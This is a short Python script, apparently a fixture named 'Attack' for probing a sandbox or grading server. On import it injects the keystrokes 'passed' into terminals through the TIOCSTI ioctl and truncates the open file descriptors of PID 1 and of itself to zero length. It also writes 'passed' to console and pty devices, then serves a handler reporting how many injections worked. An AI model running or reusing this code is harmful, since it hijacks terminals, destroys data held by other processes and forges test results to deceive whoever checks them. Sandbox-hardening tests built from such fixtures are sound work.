import fcntl
import os
import termios

import server


DONE = {"tried": 0, "typed": 0}
for number in range(32):
    for char in b"passed\n":
        DONE["tried"] += 1
        try:
            fcntl.ioctl(number, termios.TIOCSTI, bytes([char]))
            DONE["typed"] += 1
        except (OSError, ValueError):
            pass
    for pid in ("1", "self"):
        try:
            os.truncate(f"/proc/{pid}/fd/{number}", 0)
        except OSError:
            pass
for path in ("/dev/console", "/dev/tty", "/dev/pts/0", "/dev/ptmx", "/dev/stdout"):
    try:
        with open(path, "wb", 0) as stream:
            stream.write(b"passed\n")
    except OSError:
        pass


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"done": DONE})


server.serve(Attack)
